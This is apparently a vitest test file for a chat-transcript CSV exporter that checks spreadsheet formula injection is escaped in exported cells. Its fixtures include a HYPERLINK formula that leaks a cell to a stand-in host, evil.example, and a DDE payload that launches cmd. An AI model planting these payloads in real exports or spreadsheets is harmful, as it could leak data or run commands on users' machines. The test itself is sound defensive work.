import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type TestGateway, chat, startConversation, startGateway } from '../server/testing/test-support';
import { runExport } from './exporter';

const KEY = 'csv-key';
let gw: TestGateway;
let dir: string;

beforeAll(async () => {
  gw = await startGateway({ exportApiKeys: [KEY], exportRate: { burst: 1000, perMinute: 60_000 } });
  dir = mkdtempSync(join(tmpdir(), 'agent-chat-csv-'));
});
afterAll(async () => {
  await gw.close();
  rmSync(dir, { recursive: true, force: true });
});

// What a spreadsheet would run as a formula, and how OWASP says to write it: a leading ' and quotes.
const FORMULAS: [string, string][] = [
  ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click"")"`],
  ["@SUM(1+9)*cmd|' /C calc'!A0", `"'@SUM(1+9)*cmd|' /C calc'!A0"`],
  ['+1+1', `"'+1+1"`],
  ['-2+3', `"'-2+3"`],
  ['\t=1+1', `"'\t=1+1"`],
  ['\r=1+1', `"'\r=1+1"`],
];

describe('CSV export and formula injection', () => {
  it('neutralises visitor text that a spreadsheet would run, and leaves plain text as it was', async () => {
    const { id, token } = await startConversation(gw);
    for (const [text] of [...FORMULAS, ['plain words, no formula'] as [string]]) {
      expect((await chat(gw, { platformConversationId: id, eventType: 'message', text, messageId: randomUUID() }, token)).status).toBe(200);
    }
    const now = Math.floor(Date.now() / 1000);
    const out = join(dir, 'messages.csv');
    await runExport(
      { apiBase: gw.url, apiKey: KEY, bot: 'support-bot', from: now - 60, to: now + 60, out, format: 'csv', what: 'messages' },
      { paceMs: 0, sleep: () => Promise.resolve() },
    );
    const csv = readFileSync(out, 'utf8');
    for (const [, cell] of FORMULAS) expect(csv).toContain(`,${cell},`);
    expect(csv).toContain(',"plain words, no formula",');
    // No cell anywhere starts with a formula character unprotected.
    expect(csv).not.toMatch(/(^|\n|,)"?[=+\-@\t\r]/);
  });
});
